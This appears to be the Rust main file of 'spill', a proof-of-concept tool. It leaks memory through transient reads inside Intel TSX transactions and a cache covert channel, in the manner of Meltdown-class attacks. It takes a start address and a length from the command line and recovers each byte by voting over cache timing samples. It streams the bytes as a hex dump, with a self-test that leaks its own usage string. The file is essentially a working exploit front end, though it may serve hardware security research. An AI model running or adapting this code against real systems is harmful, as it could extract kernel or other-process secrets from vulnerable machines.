use std::io::Write;
use std::process::ExitCode;
use std::time::Instant;

use anyhow::{Result, bail};
use clap::{Parser, ValueEnum};
use indicatif::{MultiProgress, ProgressBar, ProgressStyle};
use log::{info, warn};
use serde::Serialize;
use spill_bin::hexdump::HexDump;
use spill_bin::init_logging_with_progress;
use spill_bin::report::LeakReport;
use spill_core::platform::Platform;
use spill_core::util::{CALIBRATION_ROUNDS, NamedProgress};
use spill_core::{
    ByteSampler, ProbeBuffer, RetryBound, Sample, SamplerConfig, TargetAddr, calibrate,
};
use spill_sim::{Leak, Sim};
use spill_tsx::Tsx;

/// Leaked by the self-test. Must stay a static so its address is stable.
static USAGE: &str = "usage: spill <address> <length>\ndanke intel!\n";

/// Platform backend used to leak bytes.
#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum, Serialize)]
enum Backend {
    /// Transient reads inside Intel TSX transactions
    Tsx,
    /// Simulated cache, reads its target architecturally (self-test only)
    Sim,
}

impl Backend {
    fn name(&self) -> &'static str {
        match self {
            Backend::Tsx => "tsx",
            Backend::Sim => "sim",
        }
    }
}

/// CLI arguments for the `spill` binary.
///
/// Without a valid ADDRESS and LENGTH, the binary leaks its own usage message
/// to stderr and exits with a failure status.
#[derive(Debug, Parser, Serialize, Clone)]
#[command(version, about = "Leak memory through transient execution and a cache covert channel")]
struct CliArgs {
    /// Start address (hexadecimal, optional 0x prefix).
    address: Option<String>,
    /// Number of bytes to leak (decimal).
    length: Option<String>,
    /// The platform backend.
    #[clap(long = "backend", value_enum, default_value = "tsx")]
    backend: Backend,
    /// JSON file with sampler settings; flags below override it.
    #[clap(long = "config")]
    config: Option<String>,
    /// Leak and reload rounds voted over per byte.
    #[clap(long = "samples")]
    samples: Option<usize>,
    /// Bound on the retry-while-zero loop of each transient read (0 = unbounded).
    #[clap(long = "zero-retries")]
    zero_retries: Option<u64>,
    /// Measure cache hit/miss latency before leaking.
    #[clap(long = "calibrate")]
    calibrate: bool,
    /// Output file for results (JSON format).
    #[clap(long = "output")]
    output: Option<String>,
    /// Surplus positional arguments; their presence selects the self-test.
    #[clap(hide = true)]
    extra: Vec<String>,
}

/// What to leak.
#[derive(Debug, Clone, Copy)]
enum Mode {
    /// Leak the usage message to stderr.
    SelfTest,
    /// Leak `len` bytes starting at `start` to stdout.
    Range { start: TargetAddr, len: usize },
}

impl Mode {
    fn from_args(args: &CliArgs) -> Self {
        if !args.extra.is_empty() {
            warn!("Unexpected arguments {:?}, running self-test", args.extra);
            return Mode::SelfTest;
        }
        let (Some(address), Some(length)) = (&args.address, &args.length) else {
            if args.address.is_some() || args.length.is_some() {
                warn!("Both ADDRESS and LENGTH are required, running self-test");
            }
            return Mode::SelfTest;
        };
        let start = match address.parse::<TargetAddr>() {
            Ok(start) => start,
            Err(e) => {
                warn!("{}, running self-test", e);
                return Mode::SelfTest;
            }
        };
        match length.parse::<usize>() {
            Ok(len) => Mode::Range { start, len },
            Err(e) => {
                warn!("Invalid length {:?} ({}), running self-test", length, e);
                Mode::SelfTest
            }
        }
    }

    fn target(&self) -> (TargetAddr, usize) {
        match *self {
            Mode::SelfTest => (TargetAddr::from(USAGE.as_ptr()), USAGE.len()),
            Mode::Range { start, len } => (start, len),
        }
    }
}

fn sampler_config(args: &CliArgs) -> Result<SamplerConfig> {
    let mut config = match &args.config {
        Some(path) => SamplerConfig::from_jsonfile(path)?,
        None => SamplerConfig::default(),
    };
    if let Some(samples) = args.samples {
        config.samples = samples;
    }
    match args.zero_retries {
        Some(0) => config.zero_retries = RetryBound::UNBOUNDED,
        Some(retries) => config.zero_retries = RetryBound::new(retries),
        None => {}
    }
    if config.samples == 0 {
        bail!("at least one sample per byte is required");
    }
    Ok(config)
}

/// Running summary of a campaign.
///
/// Per-byte samples are only retained when they end up in a report.
struct Tally {
    leaked: usize,
    unanimous: usize,
    samples: Option<Vec<Sample>>,
}

impl Tally {
    fn new(keep_samples: bool) -> Self {
        Tally {
            leaked: 0,
            unanimous: 0,
            samples: keep_samples.then(Vec::new),
        }
    }

    /// Counts `sample` and returns its recovered byte.
    fn record(&mut self, sample: Sample) -> u8 {
        let byte = sample.byte;
        self.leaked += 1;
        if sample.is_unanimous() {
            self.unanimous += 1;
        }
        if let Some(samples) = &mut self.samples {
            samples.push(sample);
        }
        byte
    }

    fn unanimous_rate(&self) -> f64 {
        if self.leaked == 0 {
            return 0.0;
        }
        self.unanimous as f64 / self.leaked as f64
    }
}

/// Leaks the usage message, writing each recovered byte to stderr as it arrives.
fn self_test<P: Platform>(
    sampler: &ByteSampler<P>,
    buffer: &mut ProbeBuffer,
    keep_samples: bool,
) -> Result<Tally> {
    let (start, len) = Mode::SelfTest.target();
    info!("Self-test: leaking {} bytes of the usage message at {:?}", len, start);
    let mut stderr = std::io::stderr().lock();
    let mut tally = Tally::new(keep_samples);
    for addr in start.range(len) {
        let byte = tally.record(unsafe { sampler.sample(addr, buffer) });
        stderr.write_all(&[byte])?;
        stderr.flush()?;
    }
    Ok(tally)
}

/// Leaks `len` bytes from `start`, streaming them to stdout as a hex dump.
///
/// The range stops at the top of the address space.
fn leak_range<P: Platform>(
    sampler: &ByteSampler<P>,
    buffer: &mut ProbeBuffer,
    start: TargetAddr,
    len: usize,
    progress: &MultiProgress,
    keep_samples: bool,
) -> Result<Tally> {
    let len = len.min(usize::MAX - start.as_usize());
    info!("Leaking {} bytes from {:?}", len, start);
    let bar = progress.add(
        ProgressBar::new(len as u64).with_style(ProgressStyle::named_bar("Leaking bytes")),
    );
    let mut dump = HexDump::new(std::io::stdout().lock(), start);
    let mut tally = Tally::new(keep_samples);
    for addr in start.range(len) {
        let byte = tally.record(unsafe { sampler.sample(addr, buffer) });
        dump.push(byte)?;
        bar.inc(1);
    }
    dump.finish()?;
    bar.finish_and_clear();
    Ok(tally)
}

/// Runs one campaign and returns the exit code together with the platform.
fn run<P: Platform>(
    platform: P,
    args: &CliArgs,
    config: SamplerConfig,
    mode: Mode,
    progress: &MultiProgress,
) -> Result<(ExitCode, P)> {
    let mut buffer = ProbeBuffer::new()?;
    let calibration = args
        .calibrate
        .then(|| calibrate(&platform, &buffer, CALIBRATION_ROUNDS));
    let sampler = ByteSampler::with_config(platform, config.clone());
    let keep_samples = args.output.is_some();

    let start_time = Instant::now();
    let (tally, exit_code) = match mode {
        Mode::SelfTest => (
            self_test(&sampler, &mut buffer, keep_samples)?,
            ExitCode::FAILURE,
        ),
        Mode::Range { start, len } => (
            leak_range(&sampler, &mut buffer, start, len, progress, keep_samples)?,
            ExitCode::SUCCESS,
        ),
    };
    let duration = start_time.elapsed();

    info!(
        "Leaked {} bytes in {:.2}s, {:.2}% unanimous",
        tally.leaked,
        duration.as_secs_f64(),
        tally.unanimous_rate() * 100.0
    );
    if let (Some(output), Some(samples)) = (&args.output, tally.samples) {
        let (start, _) = mode.target();
        let report = LeakReport::new(
            args.backend.name(),
            config,
            calibration,
            start,
            samples,
            duration,
        );
        report.save_to_file(output)?;
    }
    Ok((exit_code, sampler.into_platform()))
}

fn main() -> Result<ExitCode> {
    let progress = init_logging_with_progress()?;

    let args = CliArgs::parse();
    info!("CLI args: {:?}", args);

    let config = sampler_config(&args)?;
    let mode = Mode::from_args(&args);

    match args.backend {
        Backend::Tsx => {
            let (exit_code, tsx) = run(Tsx::new()?, &args, config, mode, &progress)?;
            info!(
                "{} of {} transactions aborted",
                tsx.aborts(),
                tsx.transactions()
            );
            Ok(exit_code)
        }
        Backend::Sim => {
            if let Mode::Range { .. } = mode {
                bail!(
                    "the simulated backend reads its target architecturally \
                     and only supports the self-test"
                );
            }
            let sim = Sim::new(Leak::Architectural);
            let (exit_code, _) = run(sim, &args, config, mode, &progress)?;
            Ok(exit_code)
        }
    }
}
